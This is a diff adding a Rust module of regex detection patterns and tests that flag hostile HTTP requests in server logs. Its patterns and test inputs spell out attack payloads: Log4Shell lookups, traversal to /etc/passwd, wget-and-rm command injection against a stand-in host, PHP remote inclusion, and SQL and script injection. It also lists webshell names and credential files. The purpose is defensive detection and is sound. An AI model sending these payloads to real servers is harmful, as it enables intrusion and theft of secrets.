@@ -1,0 +1,287 @@
+//! The pieces of expression that every filter may name: what web servers are asked for by those who look for holes.
+//!
+//! Nothing of it is asked for by a browser, a crawler or a mail program, not even at a site that is broken or was moved:
+//! what those may ask for (`.DS_Store`, `autodiscover.json`, missing parts of a page) is not in it. A site's own pages may
+//! have a word in common with a piece; so every word is tied to its end, or to the file that makes it hostile. And every
+//! alternative holds three letters or more that are in every match, so that none of them runs on every line.
+
+/// The built-in pieces by name; a definition of the filter's own with the same name stands over it.
+pub(super) const BUILT_IN: [(&str, &str); 8] = [
+    ("http-exploit", EXPLOIT),
+    ("http-hostile", HOSTILE),
+    ("http-probe", PROBE),
+    ("http-guess", GUESS),
+    ("http-scanner", SCANNER),
+    ("http-path", PATH),
+    ("http-get", GET),
+    ("json-value", JSON_VALUE),
+];
+
+/// The method of a request and its path, up to where a piece begins.
+const PATH: &str = r#"(?:GET|POST|HEAD|PUT|OPTIONS|DELETE) (?:https?://[^/\s"]{1,255})?(?:/[^\s"?]*)?"#;
+
+/// The same of a request that only asks: who sends a form to a login has a rule of its own.
+const GET: &str = r#"(?:GET|HEAD) (?:https?://[^/\s"]{1,255})?(?:/[^\s"?]*)?"#;
+
+/// A value of flat JSON.
+const JSON_VALUE: &str = r#"(?:"(?:[^"\\]|\\.)*"|[\[\]0-9.,eE+\-]+|true|false|null)"#;
+
+/// Anywhere in a request: an attack whatever the answer is.
+const EXPLOIT: &str = concat!(
+    "(?i:",
+    // Log4Shell, plain and veiled.
+    r"\$\{jndi:|%24%7bjndi|\$%7bjndi|\$\{(?:lower|upper|env|sys|date):|\$\{::-|%24%7b%24%7b|\$\{\$\{",
+    // Out of the site by three steps or more, or to a file that tells.
+    r"|\.\./\.\./\.\./|%2e%2e(?:/|%2f)%2e%2e(?:/|%2f)%2e%2e|\.\.%2f\.\.%2f\.\.|\.\.%5c\.\.%5c\.\.|\.%2e/\.%2e/|%2e\./%2e\./|%252e%252e(?:/|%2f|%252f)%252e|%c0%ae%c0%ae|%%32%65%%32%65",
+    r"|(?:\.\.|%2e%2e|\.%2e|%252e%252e)(?:/|%2f|%252f|%5c)etc(?:/|%2f|%252f|%5c)|(?:\.\.|%2e%2e)(?:/|%2f)proc(?:/|%2f)self",
+    r"|[=:](?:file:(?://|%2f%2f))?(?:/|%2f)etc(?:/|%2f)(?:passwd|shadow|hosts)\b",
+    r"|/cgi-bin/(?:\.%|%2e|%%32|\.\./)|/icons/(?:\.%|%2e|%%32)",
+    // Commands.
+    r"|/boaform/admin/formlogin|/gponform/diag_form|/hnap1\b|/setup\.cgi\?next_file=|/shell\?(?:cd|busybox|/bin)",
+    r"|(?:;|%3b|\||%7c|`|%60|&&|%26%26|\$\(|%0a)(?:\+|%20)*(?:wget|curl|tftp|chmod|busybox)(?:\+|%20|\$)",
+    r"|cd(?:\+|%20)/(?:tmp|var|mnt|dev)\b|cat(?:\+|%20)(?:/|%2f)etc|\$\{ifs\}|[=;|+](?:/|%2f)bin(?:/|%2f)(?:bash|sh\b)|cmd\.exe\?/c|xp_cmdshell",
+    // PHP.
+    r"|eval-stdin\.php|invokefunction&|=call_user_func|auto_prepend_file(?:=|%3d)|allow_url_include(?:=|%3d)",
+    r"|php(?::|%3a)(?:/|%2f){2}(?:input|filter)|expect://|expect%3a%2f%2f|data://text|data%3a%2f%2ftext|base64_decode(?:\(|%28)",
+    r"|=(?:https?|ftp)(?:://|%3a%2f%2f)[^\s&]{1,255}(?:\.txt\?|\.htm\?|\.dat\?)|/timthumb\.php\?(?:[^\s]{1,200}&)?src=http[^\s]{1,200}\.php\b",
+    r"|/_ignition/execute-solution|element_parents=account|think(?:\\|%5c|/|\\x5c)app",
+    // SQL and scripts, in forms that are no search for the words.
+    r"|union(?:\+|%20|/\*\*/|%0a)+(?:all(?:\+|%20|/\*\*/)+)?select(?:\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat|0x[0-9a-f]+|@@[a-z]+|\*|[a-z_.]+)(?:,|%2c|\(|%28|(?:\+|%20)from(?:\+|%20))",
+    r"|pg_sleep(?:\(|%28)|waitfor(?:\+|%20)delay|benchmark(?:\(|%28)[0-9]{4}|(?:extractvalue|updatexml)(?:\(|%28)|information_schema\.",
+    r"|(?:<|%3c)script[^\s]{0,40}(?:>|%3e)(?:alert|prompt|confirm|document)|onerror(?:=|%3d)(?:alert|prompt|confirm)|javascript(?::|%3a)(?:alert|prompt|confirm)(?:\(|%28)",
+    // What scanners call themselves in a path.
+    r"|w00tw00t|muieblackcat|/nmaplowercheck|/nmapuppercheck|/nmap/folder/|/nice%20ports",
+    // ProxyShell; Outlook asks for autodiscover.json, too.
+    r"|/autodiscover\.json[^\s]{0,200}(?:powershell|mapi/nspi)",
+    ")"
+);
+
+/// Anywhere in a request that was refused.
+const HOSTILE: &str = concat!(
+    "(?i:",
+    r"\.\./\.\./|%2e%2e(?:/|%2f|%5c)|\.%2e/|%2e\./|\.\.%2f\.\.%2f|\.\.%5c\.\.|%252e%252e|%c0%ae|%c0%af|%%32%65",
+    r"|(?:/|%2f)etc(?:/|%2f)(?:passwd|shadow)\b|/proc/self\b|/win\.ini\b|/boot\.ini\b",
+    r"|<script|%3cscript|%0d%0aset-cookie|%00\.|rest_route=/wp/v2/users",
+    ")"
+);
+
+/// Files that nobody asks for who does not look for holes; it follows a path.
+const PROBE: &str = concat!(
+    "(?i:",
+    // What lies about in home directories and working copies.
+    r"/\.env\b|/\.git[a-z\-]*\b|/\.svn\b|/\.hg\b|/\.bzr\b|/\.cvsignore\b|/cvs/(?:root|entries)\b|/\.aws\b|/\.azure\b|/\.kube\b|/\.docker",
+    r"|/\.ssh\b|/\.npmrc\b|/\.pypirc\b|/\.netrc\b|/\.ht(?:passwd|access|digest)|/\.bash|/\.zsh|/\.profile\b|/\.[a-z]{2,12}_history\b|/\.history\b",
+    r"|/\.rhosts\b|/\.shosts\b|/\.passw|/\.pgpass\b|/\.my\.cnf\b|/\.vscode\b|/\.idea\b|/\.ftpconfig\b|/\.sftp|/\.s3cfg\b|/\.boto\b|/\.terraform",
+    r"|/\.travis\.yml\b|/\.circleci\b|/\.subversion\b|/\.forward\b|/\.listing\b|/\.config/|/\.local/|/\.wp-config|/\.secret|/\.credential",
+    // Keys and settings.
+    r"|/id_rsa\b|/id_dsa\b|/id_ecdsa\b|/id_ed25519\b|/authorized_keys\b|/server\.key\b|/private\.key\b|/privatekey|/aws-credentials|/credentials\.(?:json|ya?ml|txt|csv|xml)",
+    r"|/secrets?\.(?:json|ya?ml|txt)\b|/sftp-config\.json|/sftp\.json|/ws_ftp\.|/docker-compose[a-z.\-]{0,20}\.ya?ml|/web\.config\b|/appsettings\.json|/application\.(?:properties|ya?ml)\b",
+    r"|/wp-config|\.php~|\.php\.(?:bak|old|save|swp|swo|orig|txt|dist|zip)\b|/config\.(?:inc|json|ya?ml)\.(?:bak|old|save|swp|orig)\b|/parameters\.ya?ml\b|/database\.ya?ml\b",
+    r"|(?:/backups?\.|/dump\.|/database\.|/mysql\.|/site\.|/www\.|/wwwroot\.|/public_html\.|/htdocs\.|/db\.)(?:zip|tar|tgz|rar|sql|bak)\b|/wp-content/debug\.log|/laravel\.log\b",
+    r"|/phpinfo\b|/php-info\b|/php_info\b|/infophp\.php|/_profiler/phpinfo|/telescope/requests|/_ignition/|/vendor/(?:phpunit|\.|composer/installed)|/phpunit/(?:phpunit|src|util|license)\b",
+    // Routers and appliances.
+    r"|/boaform/|/gponform/|/goform/|/setup\.cgi\b|/currentsetting\.htm|/tmunblock\.cgi|/hndunblock\.cgi|/device\.rsp\b|/wanipcn\.xml|/picsdesc\.xml|/ctrlt/|/ud/act\b|/evox/about",
+    r"|/remote/(?:fgt_lang|login\?lang=|logincheck|hostcheck_validate)|/dana-na/|/dana-cached/|/global-protect/(?:login|prelogin|getconfig|portal)|/ssl-vpn/(?:login|prelogin|hipreport|getconfig)",
+    r"|/\+cscoe\+/|/\+cscol\+/|/vpns?/(?:cfg|portal|\.\.)|/mgmt/tm/|/tmui/|/portal/redlion|/vtigercrm|/a2billing/|/level/[0-9]{1,2}/exec/",
+    // Servers of applications.
+    r"|/solr/admin|/manager/html\b|/host-manager/|/invoker/(?:jmx|ejb|readonly)|/jmx-console|/axis2/axis2|/axis2-admin|/struts2?-showcase|/struts/utils|/wls-wsat/|/_async/|/console/login/loginform",
+    r"|/jenkins/script\b|/hudson/script\b|/jolokia\b|/api/jsonws/invoke|/druid/(?:index|coordinator)|/nacos/",
+    r"|/actuator/(?:env|heapdump|gateway|jolokia|mappings|threaddump|dump|trace|httptrace|logfile|beans|configprops|refresh|shutdown)\b",
+    r"|/ecp/(?:current/|default\.|proxylogon|[a-z0-9]{1,12}\.js\b)|/owa/auth/x\.js|/aspnet_client/[^\s?]{0,200}\.aspx|/_vti_(?:bin|pvt|inf)|/msadc/|/default\.ida\b|/scripts/root\.exe|/cmd\.exe\b",
+    // PHP: WordPress, proxies, shells that somebody else may have left.
+    r"|/wp-json/wp/v2/users\b|/wlwmanifest\.xml|/wp-admin/(?:setup-config|install)\.php|/wp-content/uploads/[^\s?]{1,200}\.php\b|/wp_filemng|/connector\.minimal\.php|/azenv\.php|/proxyheader\.php",
+    r"|/scripts/setup\.php|/php-?my-?admin[0-9._\-]{0,12}/(?:scripts|setup)\b|/phpmoadmin|(?:/shell|/webshell|/cmd|/c99|/r57|/wso[0-9]{0,4}|/b374k|/alfa[a-z0-9_\-]{0,20}|/marijuana|/indoxploit|/leafmailer|/priv8|/xleet|/gel4y|/adminfuns)\.php\b",
+    r"|(?:/ioxi[a-z0-9_\-]{0,20}|/wp-conflg|/lock360|/atomlib|/xmrlpc)\.php\b|/alfa_data/|/alfacgiapi",
+    r"|/cgi-bin/(?:luci\b|test-cgi|printenv|kerbynet|jarrewrite|mainfunction|supervisor|viewlog|nobody|authlogin|config\.exp|[^\s?]{0,100}\.sh\b|php[0-9]?\b|php-cgi|bash\b)",
+    ")"
+);
+
+/// Programs that somebody may look for at the wrong site, and that bots look for at every one: it follows a path, and the
+/// path ends with it.
+const GUESS: &str = concat!(
+    "(?i:(?:/php-?my-?admin[0-9._\\-]{0,12}|/pma[0-9._\\-]{0,12}|/myadmin|/mysql-?admin|/mysqlmanager|/db-?admin|/sqlmanager|/sqlweb|/websql|/phppgadmin|/pgadmin[0-9]?|/phpldapadmin",
+    "|/adminer[0-9._\\-]{0,16}(?:\\.php)?|/v?-?webmail[0-9]?|/mails?|/extmail|/roundcube(?:mail)?|/horde[0-9]?|/squirrelmail|/rainloop|/snappymail|/owa|/exchange|/zimbra|/geoserver/web",
+    "|/wp-login\\.php|/wp-admin(?:\\.php)?|/wp-signup\\.php|/wordpress|/xmlrpc\\.php|/administrator|/info\\.php|/test\\.php|/admin/config\\.php|/server-status|/server-info|/cgi-bin/[^\\s?,'\"]{0,200})(?:/|/index\\.php)?)"
+);
+
+/// The names by which tools for attacks introduce themselves.
+const SCANNER: &str = concat!(
+    "(?i:sqlmap|nikto|masscan|zgrab|nmap scripting engine|nuclei|wpscan|dirbuster|gobuster|feroxbuster|fuzz faster|wfuzz|acunetix|netsparker|openvas|nessus|w3af|havij|zmeu|morfeus",
+    "|muieblackcat|jorgee|whatweb|fimap|arachni|skipfish|jaeles|commix|libredtail|l9explore|l9tcpid|hello,? ?world/|xfa1|the beast\\b|toata dragostea|datacha0s)"
+);
+
+#[cfg(test)]
+mod tests {
+    use regex_syntax::hir::HirKind;
+
+    use super::*;
+    use crate::literal;
+
+    fn hir(pattern: &str) -> regex_syntax::hir::Hir {
+        regex_syntax::ParserBuilder::new().unicode(false).utf8(false).build().parse(pattern).unwrap()
+    }
+
+    #[test]
+    fn every_alternative_holds_a_text_that_is_in_every_match() {
+        let lists = BUILT_IN.iter().filter(|(name, _)| !["http-path", "http-get", "json-value"].contains(name));
+        for (name, piece) in lists {
+            let all = hir(piece);
+            let mut count = 0;
+            let mut weak = Vec::new();
+            let mut look = |hir: &regex_syntax::hir::Hir| {
+                let sets = literal::required(hir);
+                count += sets.first().map_or(0, Vec::len);
+                if sets.is_empty() {
+                    weak.push(hir.to_string());
+                }
+            };
+            match all.kind() {
+                HirKind::Alternation(branches) => branches.iter().for_each(&mut look),
+                _ => look(&all),
+            }
+            assert!(weak.is_empty(), "{name}: {weak:#?}");
+            assert!(!literal::required(&all).is_empty(), "{name}: {count} texts are too many");
+        }
+    }
+
+    fn is(piece: &str, text: &str) -> bool {
+        regex::bytes::RegexBuilder::new(piece).unicode(false).build().unwrap().is_match(text.as_bytes())
+    }
+
+    /// A request for a file that the piece is to find behind a path.
+    fn asks(piece: &str, target: &str) -> bool {
+        is(&format!("^{PATH}(?:{piece})"), &format!("GET {target} HTTP/1.1\" 404"))
+    }
+
+    #[test]
+    fn what_attackers_ask_for_is_found() {
+        for target in [
+            "/?x=${jndi:ldap://a/b}",
+            "/?x=%24%7Bjndi:ldap",
+            "/${${lower:j}ndi:ldap://a}",
+            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+            "/icons/.%%32%65/x",
+            "/page?file=../../../../etc/passwd",
+            "/x?f=/etc/shadow",
+            "/..%2f..%2f..%2fetc",
+            "/boaform/admin/formLogin?username=a",
+            "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/a",
+            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm",
+            "/?x=1;wget%20http://192.0.2.9/a",
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
+            "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+            "/?q=1+UNION+ALL+SELECT+1,2,3--",
+            "/?q=1+union+select+password+from+users",
+            "/?q=-1%20union%20select%20null,concat(user,0x3a)",
+            "/?id=1;SELECT+pg_sleep(5)",
+            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/a.php?page=http://192.0.2.9/shell.txt??",
+            "/autodiscover/autodiscover.json?@x.com/mapi/nspi/?&Email=x",
+            "/w00tw00t.at.ISC.SANS.DFind:)",
+        ] {
+            assert!(is(EXPLOIT, target), "{target}");
+        }
+        for target in [
+            "/.env",
+            "/app/.env.bak",
+            "/.git/config",
+            "/.gitignore",
+            "/.aws/credentials",
+            "/.ssh/id_rsa",
+            "/.bash_history",
+            "/.htpasswd",
+            "/wp-config.php.bak",
+            "/config.php~",
+            "/backup.sql",
+            "/db.tar.gz",
+            "/phpinfo.php",
+            "/boaform/x",
+            "/HNAP1/",
+            "/actuator/env",
+            "/solr/admin/info/system?wt=json",
+            "/manager/html",
+            "/blog/wp-includes/wlwmanifest.xml",
+            "/wp-json/wp/v2/users",
+            "/wp-content/uploads/2020/x.php",
+            "/alfa.php",
+            "/remote/fgt_lang?lang=/../../",
+            "/phpMyAdmin/scripts/setup.php",
+            "/cgi-bin/luci/;stok=/locale",
+            "/ecp/current/exporttool/x",
+        ] {
+            assert!(asks(PROBE, target) || is(EXPLOIT, target), "{target}");
+        }
+        for target in [
+            "/phpmyadmin/",
+            "/pma2020",
+            "/admin/phpMyAdmin/index.php?lang=en",
+            "/webmail",
+            "/wp-login.php",
+            "/adminer-4.8.1.php",
+        ] {
+            assert!(asks(&format!("{GUESS}(?:\\?[^\\s]*)? HTTP/"), target), "{target}");
+        }
+    }
+
+    #[test]
+    fn what_honest_clients_ask_for_is_not() {
+        for target in [
+            "/",
+            "/favicon.ico",
+            "/robots.txt",
+            "/.well-known/acme-challenge/x",
+            "/.well-known/security.txt",
+            "/apple-touch-icon-precomposed.png",
+            "/webdav/.DS_Store",
+            "/autodiscover/autodiscover.xml",
+            "/autodiscover/autodiscover.json?Email=bob%40example.org&Protocol=ActiveSync",
+            "/autodiscover/autodiscover.json/v1.0/bob@example.org?Protocol=ActiveSync",
+            "/ews/exchange.asmx",
+            "/Microsoft-Server-ActiveSync?Cmd=Sync",
+            "/typo3conf/ext/site/Resources/Public/x.css",
+            "/geoserver/gwc/service/wms?x",
+            "/alfa-romeo/giulia",
+            "/locations/hudson",
+            "/docs/phpunit/assertions.html",
+            "/telescope/celestron",
+            "/struts-and-shocks",
+            "/phpmyadmin/js/vendor/bootstrap.bundle.min.js.map",
+            "/webmail/skins/elastic/x.css",
+            "/wp-content/themes/x/style.css",
+            "/wp-content/plugins/x/ajax.php",
+            "/timthumb.php?src=/uploads/a.jpg",
+            "/actuator/health",
+            "/actuator/prometheus",
+            "/admin/",
+            "/login?next=/wp-admin/",
+            "/?q=union+select+committee",
+            "/?q=dog|cat+food",
+            "/css?family=Open+Sans|Roboto",
+            "/search?q=etc",
+            "/src/tree/bin/sh/main.c",
+            "/redirect?url=https://example.com/page.html",
+            "/share.php?u=http://example.com/a?b",
+            "/img/${path}/logo.png",
+            "/environment",
+            "/gitlab/project",
+            "/processing?windows=1",
+            "/mailman/listinfo/users",
+            "/owa-guide",
+        ] {
+            let path = format!("{GUESS}(?:\\?[^\\s]*)? HTTP/");
+            assert!(!is(EXPLOIT, target), "exploit: {target}");
+            assert!(!is(HOSTILE, target), "hostile: {target}");
+            assert!(!asks(PROBE, target), "probe: {target}");
+            assert!(!asks(&path, target), "guess: {target}");
+        }
+        for agent in [
+            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
+            "curl/8.5.0",
+            "python-requests/2.31",
+            "Googlebot/2.1",
+        ] {
+            assert!(!is(SCANNER, agent), "{agent}");
+        }
+    }
+}
